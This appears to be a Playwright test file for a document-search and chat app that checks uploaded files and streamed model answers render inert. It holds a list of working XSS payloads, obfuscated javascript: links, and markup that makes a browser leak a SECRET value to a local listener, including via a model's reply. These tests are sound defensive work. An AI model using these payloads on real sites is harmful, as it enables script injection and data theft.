// What somebody else has written never runs and never calls anybody, wherever a browser shows it. Each vector is shown to work in a bare page.
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";
import { ask, expect, question, ready, test } from "./fixtures";
import { ModelServer } from "./modelServer";
import { Server } from "./server";

const RUN = "window.top.owned=1";
/** Markup that runs by itself when it is taken for HTML. */
const VECTORS = [
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="${RUN}">x</b>`,
  `"><img src=x onerror="${RUN}">`,
  `</textarea></title><img src=x onerror="${RUN}">`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
];
/** Links that run when they are followed. */
const LINKS = [
  `[one](javascript:${RUN})`,
  `[two](JaVaScRiPt:${RUN})`,
  `[three](java&#x73;cript:${RUN})`,
  `[four](data:text/html,<script>${RUN}</script>)`,
  `[five](vbscript:${RUN})`,
  `<javascript:${RUN}>`,
  `<a href="javascript:${RUN}">six</a>`,
];
const EVENTS = "[onerror],[onload],[onbegin],[ontoggle],[onfocus],[onanimationstart],[onclick]";
const SHORT = VECTORS[0] ?? "";

/** Addresses that a browser would fetch without being asked, in every form that Markdown and HTML have for them. */
function leaks(host: string): string[] {
  return [
    `![status](${host}/image?q=SECRET)`,
    `![ref][leak]\n\n[leak]: ${host}/reference?q=SECRET`,
    `<img src="${host}/html?q=SECRET">`,
    `<link rel=stylesheet href="${host}/sheet?q=SECRET">`,
    `<iframe src="${host}/frame?q=SECRET"></iframe>`,
    `<b style="background:url(${host}/style?q=SECRET)">x</b>`,
    `<meta http-equiv=refresh content="0;url=${host}/refresh?q=SECRET">`,
    `<object data="${host}/object?q=SECRET"></object>`,
    `<video poster="${host}/poster?q=SECRET"></video>`,
    `[log in](${host}/link?q=SECRET)`,
  ];
}

/** Nothing has run, and nothing of a vector has become an element, in the page or a frame of it. */
async function inert(page: Page): Promise<void> {
  await expect(page.getByRole("main").or(page.locator("body")).first()).toBeVisible();
  expect(await page.evaluate(() => (window as { owned?: number }).owned)).toBeUndefined();
  for (const frame of page.frames()) {
    expect(
      await frame.locator(`${EVENTS},iframe[srcdoc],a[href^='javascript' i],a[href^='data' i],img[src='x']`).count(),
    ).toBe(0);
  }
}

test("the vectors do run where nothing prevents it", async ({ page }) => {
  for (const vector of VECTORS) {
    await page.goto("about:blank");
    await page.setContent(`<title>t</title><textarea></textarea>${vector}`);
    await expect.poll(() => page.evaluate(() => (window as { owned?: number }).owned), { message: vector }).toBe(1);
  }
});

test("files, their names, cells, metadata and errors are only text", { tag: "@journey" }, async ({ page, server }) => {
  const called = await listen();
  const text = ["# The lighthouse opens at noon", ...VECTORS, ...LINKS, ...leaks(called.host)].join("\n\n");
  const cells = VECTORS.map((vector) => `"${vector.replaceAll('"', '""')}",1`).join("\n");
  const files: [string, string][] = [
    [`${SHORT}.md`, text],
    [`${SHORT}.html`, `<title>${SHORT}</title><p>The lighthouse.</p>${VECTORS.join("")}${leaks(called.host).join("")}`],
    [`${SHORT}.svg`, `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`],
    [`${SHORT}.csv`, `"${SHORT.replaceAll('"', '""')}",n\n${cells}\n`],
    [`${SHORT}.pdf`, `%PDF-1.7 ${SHORT} is damaged`],
    [`${SHORT}.json`, JSON.stringify(VECTORS.map((vector) => ({ [vector]: vector })))],
  ];
  await server.call("POST", "/projects", { name: SHORT });
  await server.call("POST", "/tokens", { name: SHORT });
  const ids: string[] = [];
  for (const [name, content] of files) {
    const form = new FormData();
    form.set("file", new Blob([content]), name);
    form.set("metadata", JSON.stringify({ note: SHORT }));
    form.set("identifier", `${SHORT} ${name}`);
    ids.push((await server.call<{ id: string }>("POST", "/ingest", form)).id);
  }
  await ready(server);
  await page.goto(server.link);
  for (const screen of ["/library", ...ids.map((id) => `/library/${id}`), "/settings", "/playground", "/"]) {
    await page.goto(server.address + screen);
    await page.waitForLoadState("networkidle");
    await inert(page);
  }
  for (const id of ids) {
    // What a browser is given of the file itself: it is stored, or opens in a sandbox without scripts.
    await page.goto(`${server.address}/resources/${id}/original`).catch(() => undefined);
    expect(await page.evaluate(() => (window as { owned?: number }).owned)).toBeUndefined();
  }
  expect(await called.end()).toEqual([]);
});

test("an answer of a model neither runs nor calls: streamed, in history, cited, shared and copied", async ({
  page,
}) => {
  test.setTimeout(300_000);
  const called = await listen();
  const model = new ModelServer([...VECTORS, ...LINKS, ...leaks(called.host)].join("\n\n"));
  const server = new Server({
    CITEWELL_CHAT_PROVIDER: "openai",
    CITEWELL_CHAT_BASE_URL: `${await model.openAnywhere()}/v1`,
    CITEWELL_CHAT_MODEL: model.model,
    OPENAI_API_KEY: "none",
  });
  const hosts = new Set<string>();
  page.on("request", (request) => hosts.add(new URL(request.url()).host));
  try {
    await server.start();
    const form = new FormData();
    form.set(
      "file",
      new Blob([`# Hours\n\nThe lighthouse opens at noon on weekdays.\n\n${VECTORS.join("\n\n")}`]),
      `${SHORT}.md`,
    );
    await server.call("POST", "/ingest", form);
    await ready(server);
    await page.goto(server.link);
    await expect(question(page)).toBeVisible();
    const reply = await ask(page, `When does the lighthouse open? ${SHORT}`);
    await expect(reply).toContainText("opens at noon");
    await inert(page);
    await reply.getByRole("button", { name: "Copy with citations" }).click();
    expect(await page.evaluate(async () => (await navigator.clipboard.read()).flatMap(({ types }) => types))).toEqual([
      "text/plain",
    ]);
    await reply
      .getByRole("button", { name: /^Source 1/ })
      .first()
      .click();
    await expect(page.getByRole("complementary", { name: "Source" })).toContainText("lighthouse");
    await inert(page);

    const { threads } = await server.call<{ threads: { id: string }[] }>("GET", "/threads");
    const thread = threads[0]?.id ?? "";
    await page.goto(`${server.address}/conversations/${thread}`);
    await expect(page.getByRole("article", { name: "Answer" })).toContainText("opens at noon");
    await inert(page);

    const kept = await server.call<{ messages: { id: string; role: string }[] }>("GET", `/threads/${thread}`);
    const answer = kept.messages.find(({ role }) => role === "assistant")?.id ?? "";
    const share = `/threads/${thread}/messages/${answer}/share`;
    const { path } = await server.call<{ path: string }>("POST", share, { days: 1 });
    await page.goto(server.address + path);
    await expect(page.locator("body")).toContainText("opens at noon");
    await inert(page);
    expect(
      await page.locator("img,iframe,script,link[rel=stylesheet],object,video,meta[http-equiv=refresh]").count(),
    ).toBe(0);
    expect(model.chats).toBeGreaterThan(0);
    expect(hosts).toEqual(new Set([new URL(server.address).host]));
    expect(await called.end()).toEqual([]);
  } finally {
    await model.close();
    await server.remove();
  }
});

/** A host that keeps what it is asked for. */
async function listen(): Promise<{ host: string; end: () => Promise<string[]> }> {
  const asked: string[] = [];
  const listener = createServer((request, response) => {
    asked.push(request.url ?? "");
    response.end();
  });
  listener.listen(0, "127.0.0.1");
  await once(listener, "listening");
  const host = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  const end = async (): Promise<string[]> => {
    listener.closeAllConnections();
    listener.close();
    await once(listener, "close");
    return asked;
  };
  return { host, end };
}
